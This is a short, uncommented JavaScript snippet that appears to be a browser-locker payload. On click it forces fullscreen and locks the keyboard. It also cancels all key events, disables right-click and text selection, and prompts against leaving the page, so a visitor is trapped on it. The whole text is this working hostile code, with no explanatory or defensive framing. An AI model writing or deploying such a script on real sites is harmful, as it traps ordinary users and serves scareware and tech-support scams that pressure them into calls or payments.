document.addEventListener('click', function () {
  var el = document.documentElement;
  var go = el.requestFullscreen || el.webkitRequestFullscreen || el.webkitRequestFullScreen || el.mozRequestFullScreen || el.msRequestFullscreen;
  if (go) { try { var p = go.call(el); if (p && p.catch) p.catch(function () {}); } catch (e) {} }
  if (navigator.keyboard && navigator.keyboard.lock) navigator.keyboard.lock().catch(function () {});
});
['keydown', 'keyup', 'keypress'].forEach(function (t) {
  window.addEventListener(t, function (e) { e.preventDefault(); e.stopImmediatePropagation(); return false; }, true);
});
window.addEventListener('contextmenu', function (e) { e.preventDefault(); }, true);
window.addEventListener('selectstart', function (e) { e.preventDefault(); }, true);
window.addEventListener('beforeunload', function (e) { e.preventDefault(); e.returnValue = '1'; return '1'; });
